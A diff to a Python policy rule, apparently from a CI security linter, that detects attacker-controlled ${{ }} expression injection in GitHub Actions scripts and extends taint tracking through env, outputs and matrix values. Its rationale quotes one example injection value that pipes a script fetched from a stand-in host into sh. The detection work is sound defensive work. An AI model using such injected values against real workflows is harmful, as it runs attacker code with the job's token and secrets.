@@ -1,90 +1,38 @@
-"""GHA-008: no attacker-controlled ``${{ }}`` expansion inside scripts."""
+"""GHA-008: no attacker-controlled ``${{ }}`` expansion inside scripts.
+
+Sinks are ``run:`` and the inputs that actions run as code (``knowledge.ci.code_inputs``,
+plus ``gha.code_inputs``). Taint follows env entries, ``$GITHUB_ENV`` and ``$GITHUB_OUTPUT``
+writes, job outputs and matrix values back to its source (``knowledge.ci.dataflow``).
+"""
 
 from __future__ import annotations
 
-from collections.abc import Iterator, Sequence
-from typing import Any
+from collections.abc import Iterator, Mapping
 
 from pytest_devops_policy.api import PathPart, Severity, Violation, policy
 from pytest_devops_policy.context import Context
-from pytest_devops_policy.formats.github_actions.expressions import (
-    Expression,
-    find_expressions,
-    normalize_context,
-)
-from pytest_devops_policy.formats.github_actions.workflow import Job, Step, Workflow
-from pytest_devops_policy.knowledge.ci.taint import (
-    INPUTS,
-    TAINTED,
-    context_matches,
-    flows,
-    input_is_typed_safe,
-)
+from pytest_devops_policy.formats.github_actions.expressions import normalize_context
+from pytest_devops_policy.formats.github_actions.workflow import Job, Step
+from pytest_devops_policy.knowledge.ci.code_inputs import code_inputs_of
+from pytest_devops_policy.knowledge.ci.dataflow import TaintTracker
 from pytest_devops_policy.options import GhaOptions
 
 Sink = tuple[str, str, tuple[PathPart, ...]]
 
 
-def _sinks(step: Step) -> list[Sink]:
+def _sinks(step: Step, extra: Mapping[str, tuple[str, ...]] | None) -> list[Sink]:
+    """``run:``, and the ``with:`` inputs of actions that run them as code
+    (``knowledge.ci.code_inputs``)."""
     out: list[Sink] = []
     if step.run is not None:
         out.append(("run", step.run, step.path("run")))
     uses = step.uses
-    if uses is not None and uses.is_remote and uses.name.lower() == "actions/github-script":
-        script = step.with_.get("script")
-        if isinstance(script, str):
-            out.append(("with.script", script, step.path("with", "script")))
+    if uses is not None and uses.is_remote:
+        wanted = code_inputs_of(uses.name, extra)
+        for key, value in step.with_.items():
+            if str(key).lower() in wanted and isinstance(value, str):
+                out.append((f"with.{key}", value, step.path("with", key)))
     return out
-
-
-def _taint(
-    ctx: str, workflow: Workflow, extra: Sequence[str]
-) -> tuple[str, Severity | None] | None:
-    """(what makes ``ctx`` dangerous, severity override) or ``None`` if it is not tainted."""
-    for pattern in (*TAINTED, *extra):
-        if context_matches(ctx, pattern):
-            return "attacker-controlled", None
-    for pattern in INPUTS:
-        if context_matches(ctx, pattern) and not input_is_typed_safe(workflow, ctx):
-            return "a workflow input, set by whoever triggers the run", Severity.MEDIUM
-    return None
-
-
-def _env_lookup(job: Job, step: Step, name: str) -> tuple[str, Any] | None:
-    """The ``env`` entry a step sees for ``name``: step > job > workflow, case-insensitive."""
-    for env in (step.env, job.env, job.workflow.env):
-        for key, value in env.items():
-            if str(key).lower() == name:
-                return str(key), value
-    return None
-
-
-def _extra_patterns(contexts: tuple[str, ...]) -> tuple[str, ...]:
-    return tuple(normalize_context(c) for c in contexts)
-
-
-def _findings(
-    job: Job, step: Step, expr: Expression, extra: Sequence[str]
-) -> Iterator[tuple[str, str, Severity | None]]:
-    """(context, what reaches the script, severity) for each dangerous context it outputs."""
-    workflow = job.workflow
-    for ctx in flows(expr):
-        hit = _taint(ctx, workflow, extra)
-        if hit is not None:
-            yield ctx, f"{ctx} ({hit[0]})", hit[1]
-            continue
-        parts = ctx.split(".")
-        if parts[0] != "env" or len(parts) != 2:
-            continue
-        # ${{ env.X }} re-expands X's value into the script, so X's taint carries over.
-        entry = _env_lookup(job, step, parts[1])
-        if entry is None or not isinstance(entry[1], str):
-            continue
-        for inner in find_expressions(entry[1]):
-            for source in flows(inner):
-                hit = _taint(source, workflow, extra)
-                if hit is not None:
-                    yield ctx, f"env.{entry[0]}, set from {source} ({hit[0]}),", hit[1]
 
 
 @policy(
@@ -95,7 +43,10 @@ def _findings(
     rationale=(
         "GitHub substitutes ${{ }} expressions into the script text before the shell "
         'runs it. An issue title or branch name such as a"; curl evil.sh | sh; " '
-        "becomes code running with the job's token and secrets."
+        "becomes code running with the job's token and secrets. The same holds for the "
+        "inputs some actions run as code (github-script's script, azure/cli's inlineScript, "
+        "ssh-action's script, ...), and for values that carry such text on: a step output "
+        "or $GITHUB_ENV entry written from it, a job output, a matrix built from it."
     ),
     remediation=(
         "Pass the value through an environment variable (env: TITLE: ${{ "
@@ -129,19 +80,27 @@ def _findings(
     ),
 )
 def no_template_injection(job: Job, context: Context) -> Iterator[Violation]:
-    extra = _extra_patterns(context.options(GhaOptions).tainted_contexts)
+    options = context.options(GhaOptions)
+    tracker = TaintTracker(job, tuple(normalize_context(c) for c in options.tainted_contexts))
     for step in job.steps:
-        for field, text, path in _sinks(step):
-            fix = "read it from process.env" if field == "with.script" else 'use "$VAR"'
+        for field, text, path in _sinks(step, options.code_inputs):
+            fix = (
+                'use "$VAR"'
+                if field == "run"
+                else "read it from process.env"
+                if field == "with.script"
+                and step.uses
+                and step.uses.name.lower() == "actions/github-script"
+                else "read the variable in the script"
+            )
             seen: set[str] = set()
-            for expr in find_expressions(text):
-                for ctx, what, severity in _findings(job, step, expr, extra):
-                    if ctx in seen:
-                        continue
-                    seen.add(ctx)
-                    yield Violation(
-                        f"{step.label} {field}: '{expr.text}' pastes {what} into the "
-                        f"script text; pass it through env: and {fix}",
-                        path=path,
-                        severity=severity,
-                    )
+            for expr, ctx, taint in tracker.of_text(text, step):
+                if ctx in seen:
+                    continue
+                seen.add(ctx)
+                yield Violation(
+                    f"{step.label} {field}: '{expr.text}' pastes {taint.describe(ctx)} "
+                    f"into the script text; pass it through env: and {fix}",
+                    path=path,
+                    severity=taint.severity,
+                )
